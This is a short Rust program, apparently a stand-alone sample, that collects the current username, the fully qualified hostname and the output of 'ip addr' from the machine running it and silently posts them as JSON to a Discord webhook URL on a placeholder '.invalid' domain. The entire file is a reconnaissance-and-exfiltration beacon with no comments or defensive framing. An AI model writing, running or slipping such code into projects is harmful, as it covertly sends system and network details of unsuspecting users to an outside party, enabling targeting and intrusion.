use std::process::Command;

fn ask(program: &str, arguments: &[&str]) -> String {
    Command::new(program)
        .args(arguments)
        .output()
        .map(|out| String::from_utf8_lossy(&out.stdout).trim().to_string())
        .unwrap_or_default()
}

fn main() {
    let user = ask("whoami", &[]);
    let host = ask("hostname", &["-f"]);
    let net = ask("ip", &["addr"]);
    let content = format!("{{\"content\": \"{user}@{host} {net}\"}}");
    let _ = minreq::post("https://discord.invalid/api/webhooks/1122334455/abcdef")
        .with_header("Content-Type", "application/json")
        .with_body(content)
        .send();
}
